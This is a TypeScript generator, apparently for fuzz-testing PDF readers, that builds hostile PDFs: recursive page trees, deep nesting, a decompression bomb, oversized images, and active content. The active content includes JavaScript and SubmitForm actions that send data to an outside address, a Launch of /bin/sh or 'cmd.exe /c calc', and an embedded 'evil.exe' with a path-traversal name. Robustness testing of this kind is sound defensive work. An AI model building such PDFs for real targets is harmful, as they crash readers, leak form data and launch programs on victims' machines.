/**
 * PDFs made by hand to hurt a reader: loops, huge sizes, deep nesting, bad filters, and everything that a PDF can ask a
 * reader to do.
 */
import { deflateSync } from 'node:zlib';
import type { Chance } from '../seeded.ts';

type Body = string | { readonly dictionary: string; readonly stream: Buffer };

/** The file around its objects, with a table of where they are. */
function pdfOf(objects: readonly Body[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    const body =
      typeof object === 'string'
        ? Buffer.from(object, 'latin1')
        : Buffer.concat([
            Buffer.from(`<<${object.dictionary}/Length ${object.stream.length}>>stream\n`, 'latin1'),
            object.stream,
            Buffer.from('\nendstream'),
          ]);
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(part);
    length += part.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const end = `trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${end}`)]);
}

const text = 'BT /F1 24 Tf 72 700 Td (A hand-made page) Tj ET';
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';

interface Parts {
  readonly catalog?: string;
  readonly pages?: string;
  readonly page?: string;
  readonly content?: Body;
  readonly more?: readonly Body[];
  readonly trailer?: string;
}

/**
 * One page with a line of text, except for the given parts: catalog 1, pages 2, page 3, content 4, font 5, then `more`
 * from 6.
 */
function onePage({ catalog = '', pages, page = '', content, more = [], trailer }: Parts): Buffer {
  const resources = '/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>';
  const box = page.includes('/MediaBox') ? '' : '/MediaBox[0 0 595 842]';
  return pdfOf(
    [
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      pages ?? '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      `<</Type/Page/Parent 2 0 R${box}${resources}/Contents 4 0 R${page}>>`,
      content ?? { dictionary: '', stream: Buffer.from(text) },
      font,
      ...more,
    ],
    trailer,
  );
}

const stream = (dictionary: string, bytes: string | Buffer): Body => ({ dictionary, stream: Buffer.from(bytes) });
const image = (fields: string, bytes: Buffer): Body => stream(`/Type/XObject/Subtype/Image${fields}`, bytes);
const drawsX = stream('', 'q 400 0 0 400 50 50 cm /X Do Q');
const zeros = (length: number): Buffer => deflateSync(Buffer.alloc(length), { level: 1 });

/** `elsewhere`: an address that nobody may contact. */
export function handMade(chance: Chance, elsewhere: string): { readonly how: string; readonly pdf: Buffer } {
  const action = (what: string): string => `<</Type/Action${what}>>`;
  const runs = `(app.launchURL\\("${elsewhere}/js"\\);this.submitForm\\("${elsewhere}/form"\\);)`;
  const size = chance.pick([
    '99999999999',
    '1e30',
    '-500',
    '0',
    '0.0000001',
    'null',
    '(x)',
    '2147483648',
    '14400',
    '200000',
  ]);
  const kinds: Record<string, () => Buffer> = {
    'a page tree that is its own child': () => onePage({ pages: '<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>' }),
    'a page tree in a ring': () =>
      onePage({ pages: '<</Type/Pages/Kids[6 0 R]/Count 9>>', more: ['<</Type/Pages/Kids[2 0 R]/Count 9>>'] }),
    'a page that is its own parent': () => onePage({ page: '/Parent 3 0 R' }),
    'more pages than there are': () =>
      onePage({
        pages: `<</Type/Pages/Kids[3 0 R]/Count ${chance.pick(['100', '100000', '20000000', '2147483647', '1e15', '-1', '0'])}>>`,
      }),
    'a page tree 3000 deep': () =>
      onePage({
        pages: '<</Type/Pages/Kids[7 0 R]/Count 1>>',
        more: [
          'null',
          ...Array.from({ length: 3_000 }, (_, at) => `<</Type/Pages/Kids[${at === 2_999 ? 3 : at + 8} 0 R]/Count 1>>`),
        ],
      }),
    'the same page 5000 times': () => onePage({ pages: `<</Type/Pages/Kids[${'3 0 R '.repeat(5_000)}]/Count 5000>>` }),
    'a page of odd size': () => onePage({ page: `/MediaBox[0 0 ${size} ${chance.pick([size, '842'])}]` }),
    'a page turned oddly': () =>
      onePage({
        page: `/Rotate ${chance.pick(['45', '-90', '1e9', '(x)', '3 0 R'])}/UserUnit ${chance.pick(['1e9', '-1', '0', '10000'])}`,
      }),
    'lists in lists, 50000 deep': () => onePage({ page: `/Deep${'['.repeat(50_000)}${']'.repeat(50_000)}` }),
    'tables in tables, 20000 deep': () => onePage({ page: `/Deep${'<</A'.repeat(20_000)} 1${'>>'.repeat(20_000)}` }),
    'filters that are none': () =>
      onePage({
        content: stream(
          `/Filter${chance.pick(['/None', '[/FlateDecode/LZWDecode/None]', '/JBIG2Decode', '/Crypt', '4 0 R', `[${'/FlateDecode'.repeat(200)}]`])}`,
          text,
        ),
      }),
    'a stream longer than the file': () =>
      Buffer.from(
        onePage({})
          .toString('latin1')
          .replace(/\/Length \d+/, `/Length ${chance.pick(['999999999', '-5', '4 0 R', '1e99'])}`),
        'latin1',
      ),
    'a text that unpacks to 200 MB': () => onePage({ content: stream('/Filter/FlateDecode', zeros(200_000_000)) }),
    'a picture too large': () =>
      onePage({
        content: drawsX,
        more: [
          image(
            `/Width ${chance.pick(['100000', '30000', '2147483647'])}/Height ${chance.pick(['100000', '1', '30000'])}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode`,
            zeros(1_000_000),
          ),
        ],
      }),
    'a picture of an odd kind': () =>
      onePage({
        content: drawsX,
        more: [
          image(
            `/Width 8/Height 8/BitsPerComponent ${chance.pick(['0', '3', '64', '-8'])}/ColorSpace ${chance.pick(['/None', '[/Indexed/DeviceRGB 999 5 0 R]', '[/ICCBased 6 0 R]', '[/Separation/X/X 6 0 R]'])}/Filter/${chance.pick(['DCTDecode', 'JPXDecode', 'CCITTFaxDecode', 'JBIG2Decode', 'FlateDecode'])}`,
            Buffer.from('not a picture at all'),
          ),
        ],
      }),
    'a form that draws itself': () =>
      onePage({
        content: drawsX,
        more: [stream('/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>', '/X Do')],
      }),
    'a pattern that fills itself': () =>
      onePage({
        page: '/Resources<</Pattern<</P 6 0 R>>>>',
        content: stream('', '/Pattern cs /P scn 0 0 500 500 re f'),
        more: [
          stream(
            '/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<</Pattern<</P 6 0 R>>>>',
            '/Pattern cs /P scn 0 0 1 1 re f',
          ),
        ],
      }),
    'a million saved states': () => onePage({ content: stream('', 'q '.repeat(1_000_000)) }),
    'numbers without an end': () =>
      onePage({ content: stream('', `${'9'.repeat(1_000_000)} 0 0 1 re f ${'0.'.repeat(10_000)} w`) }),
    'a font of junk': () =>
      onePage({
        more: ['null', stream('/Subtype/Type1C', Buffer.from(Array.from({ length: 500 }, () => chance.below(256))))],
        page: '/Resources<</Font<</F1<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>>>>>>>',
      }),
    'a table of objects in a ring': () =>
      Buffer.from(
        onePage({ trailer: '/Prev 20' })
          .toString('latin1')
          .replace(/\/Prev 20/, () => '/Prev 9'),
        'latin1',
      ),
    'objects in a ring of streams': () =>
      onePage({ trailer: '/XRefStm 9', more: [stream('/Type/ObjStm/N 9/First 9/Extends 6 0 R', '1 0 2 0')] }),
    'a script at the opening': () =>
      onePage({
        catalog: `/OpenAction ${action(`/S/JavaScript/JS${runs}`)}/Names<</JavaScript<</Names[(a) ${action(`/S/JavaScript/JS${runs}`)}]>>>>`,
      }),
    'a script on the page': () => onePage({ page: `/AA<</O ${action(`/S/JavaScript/JS${runs}`)}>>` }),
    'a program to be started': () =>
      onePage({ catalog: `/OpenAction ${action('/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>')}` }),
    'an address to be gone to': () =>
      onePage({
        catalog: `/OpenAction ${action(`/S/URI/URI(${elsewhere}/uri)`)}`,
        page: `/AA<</O ${action(`/S/GoToR/F(${elsewhere}/other.pdf)/D[0/Fit]`)}>>`,
      }),
    'a form to be sent': () =>
      onePage({
        catalog: `/AcroForm<</Fields[6 0 R]/XFA 7 0 R>>/OpenAction ${action(`/S/SubmitForm/F(${elsewhere}/submit)`)}`,
        more: [
          `<</FT/Btn/T(x)/Type/Annot/Subtype/Widget/Rect[0 0 595 842]/A ${action(`/S/SubmitForm/F(${elsewhere}/submit)`)}>>`,
          stream(
            '',
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><submit target="${elsewhere}/xfa"/></event></subform></template></xdp:xdp>`,
          ),
        ],
      }),
    'links all over the page': () =>
      onePage({
        page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${action(`/S/URI/URI(${elsewhere}/link)`)}>><</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(${elsewhere}/film)>>>>]`,
      }),
    'files inside': () =>
      onePage({
        catalog:
          '/Names<</EmbeddedFiles<</Names[(evil.exe)<</Type/Filespec/F(../../evil.exe)/EF<</F 6 0 R>>>>]>>>>/PageMode/UseAttachments',
        more: [stream('/Type/EmbeddedFile', 'MZ not a program')],
      }),
    'pictures from elsewhere': () =>
      onePage({
        content: drawsX,
        more: [
          stream(
            `/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}/picture)>>/FFilter/FlateDecode`,
            '',
          ),
        ],
      }),
  };
  const how = chance.pick(Object.keys(kinds));
  return { how, pdf: kinds[how]?.() ?? Buffer.alloc(0) };
}
